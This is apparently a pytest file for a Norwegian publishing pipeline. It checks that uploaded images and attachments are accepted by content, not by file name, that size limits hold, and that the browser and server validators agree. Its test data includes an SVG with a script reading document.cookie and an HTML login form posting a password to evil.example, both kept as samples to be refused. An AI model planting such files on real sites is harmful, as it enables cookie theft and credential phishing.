"""Files an entry publishes: allowed types told by content, not name, and size limits, with
file:line errors naming the file (innomed/model/uploads.py)."""

from __future__ import annotations

import json

import pytest

from innomed.model.errors import ContentErrors
from innomed.pipeline import load_content

from conftest import (
    JPEG_BYTES,
    PDF_TEXT,
    PNG_BYTES,
    run_build_py,
    write,
    write_bytes,
    write_project,
)

pytestmark = pytest.mark.unit

PROJECT = """\
---
title: Testprosjekt
summary: Kort.
kind: Prosjektbeskrivelse
status: Pågående
regions: [Nord]
owner: Helse Testfjord
{extra}---
Tekst.
"""
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
LOGIN = b'<!doctype html><form action="https://evil.example/"><input name="passord"></form>'


def errors_for(root, extra: str) -> list[str]:
    write_project(root, "x", text=PROJECT.format(extra=extra))
    try:
        load_content(root)
    except ContentErrors as caught:
        return [str(error) for error in caught.errors]
    return []


def image(name: str) -> str:
    return f"image:\n  file: bilder/{name}\n  alt: Et bilde\n"


def attachment(name: str) -> str:
    return f"attachments:\n  - title: Vedlegg\n    file: filer/{name}\n"


def test_allowed_files_pass(scratch):
    write_bytes(scratch, "projects/bilder/foto.png", PNG_BYTES)
    write_bytes(scratch, "projects/filer/rapport.pdf", PDF_TEXT.encode())
    write(scratch, "projects/filer/tall.csv", "region;antall\nNord;3\n")
    extra = (
        image("foto.png")
        + attachment("rapport.pdf")
        + "  - title: Tall\n    file: filer/tall.csv\n"
    )
    assert errors_for(scratch, extra) == []


def test_svg_image_is_refused_even_when_named_png(scratch):
    write_bytes(scratch, "projects/bilder/logo.svg", SVG)
    write_bytes(scratch, "projects/bilder/logo.png", SVG)
    assert errors_for(scratch, image("logo.svg")) == [
        "projects/x.md:9: image.file: filen 'logo.svg' har en filtype som ikke kan publiseres "
        "(forventet PNG, JPEG, GIF eller WebP; SVG og HTML kan inneholde skript og publiseres "
        "ikke)"
    ]
    assert errors_for(scratch, image("logo.png")) == [
        "projects/x.md:9: image.file: filen 'logo.png' er ikke et PNG-bilde, slik navnet sier "
        "(forventet et PNG-bilde; lagre filen på nytt i riktig format)"
    ]


@pytest.mark.parametrize("name", ["logg-inn.html", "logg-inn.pdf", "logg-inn.csv"])
def test_html_page_is_not_published_as_a_download(scratch, name):
    write_bytes(scratch, f"projects/filer/{name}", LOGIN)
    [error] = errors_for(scratch, attachment(name))
    assert error.startswith(f"projects/x.md:10: attachments[0].file: filen '{name}' ")


def test_large_image_is_refused_with_its_size(scratch):
    write_bytes(scratch, "projects/bilder/stor.jpg", JPEG_BYTES + bytes(18_000_000))
    assert errors_for(scratch, image("stor.jpg")) == [
        "projects/x.md:9: image.file: filen 'stor.jpg' er 18,0 MB (forventet høyst 2,0 MB; "
        "gjør bildet mindre, for eksempel 2000 piksler bredt, eller lagre det som JPEG)"
    ]


def test_pdf_as_image_is_refused(scratch):
    write_bytes(scratch, "projects/bilder/side.pdf", PDF_TEXT.encode())
    [error] = errors_for(scratch, image("side.pdf"))
    assert "filen 'side.pdf' har en filtype som ikke kan publiseres" in error


def test_check_sees_a_file_replaced_under_the_same_name(scratch):
    """`check` after a good image is swapped for an SVG with the same name (its memory of
    the last pass must not answer for the new bytes)."""
    write_bytes(scratch, "projects/bilder/foto.png", PNG_BYTES)
    write_project(scratch, "x", text=PROJECT.format(extra=image("foto.png")))
    assert run_build_py(scratch, "check").returncode == 0
    write_bytes(scratch, "projects/bilder/foto.png", SVG)
    result = run_build_py(scratch, "check")
    assert result.returncode != 0
    assert "filen 'foto.png' er ikke et PNG-bilde" in result.stderr


UPLOAD_SCRIPT = """
import { readFileSync } from 'node:fs';
import { uploadProblem } from './uploads.js';
const out = JSON.parse(readFileSync(process.argv[2], 'utf8')).map(([name, hex, size, image]) =>
  uploadProblem(name, Uint8Array.from(Buffer.from(hex, 'hex')), size, image));
console.log(JSON.stringify(out));
"""


def test_browser_refuses_what_check_refuses_in_the_same_words(tmp_path):
    """admin/uploads.js (before an upload) and innomed/model/uploads.py (check) agree on every
    sample: allowed, wrong content for the name, not allowed, too large."""
    from test_cms_format import run_js

    from innomed.model.uploads import upload_problem

    contents = {
        "png": PNG_BYTES,
        "jpeg": JPEG_BYTES,
        "gif": b"GIF89a\x01\x00",
        "webp": b"RIFF\x00\x00\x00\x00WEBPVP8 ",
        "riff": b"RIFF\x00\x00\x00\x00WAVEfmt ",
        "pdf": PDF_TEXT.encode(),
        "zip": b"PK\x03\x04\x14\x00",
        "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        "svg": SVG,
        "html": LOGIN,
        "csv": "region;antall\nNord;3\nSør;2\n".encode(),
        "latin1": "S\xf8r;2\n".encode("latin-1"),
    }
    names = ["a.png", "a.jpg", "a.JPEG", "a.gif", "a.webp", "a.pdf", "a.docx", "a.xls"]
    names += ["a.csv", "a.txt", "a.svg", "a.html", "a.exe", "uten-endelse"]
    samples = []
    for name in names:
        for data in contents.values():
            for size in (len(data), 3 * 1_000_000, 25 * 1_000_000):
                for image in (False, True):
                    samples.append((name, data, size, image))
    expected, heads = [], []
    for index, (name, data, size, image) in enumerate(samples):
        path = tmp_path / "files" / str(index) / name
        path.parent.mkdir(parents=True)
        path.write_bytes(data)
        with path.open("r+b") as file:
            file.truncate(size)  # sparse: the size without writing megabytes
        expected.append(upload_problem(path, image=image))
        with path.open("rb") as file:
            heads.append(file.read(4096))  # what the browser reads of the file
    arguments = [
        [name, head.hex(), size, image]
        for (name, _, size, image), head in zip(samples, heads, strict=True)
    ]
    (tmp_path / "js").mkdir()
    (tmp_path / "samples.json").write_text(json.dumps(arguments))
    got = run_js(tmp_path / "js", UPLOAD_SCRIPT, str(tmp_path / "samples.json"))
    assert got == expected
    assert sum(problem is None for problem in expected) >= 20
    assert len({problem.split("'", 2)[-1] for problem in expected if problem}) >= 6
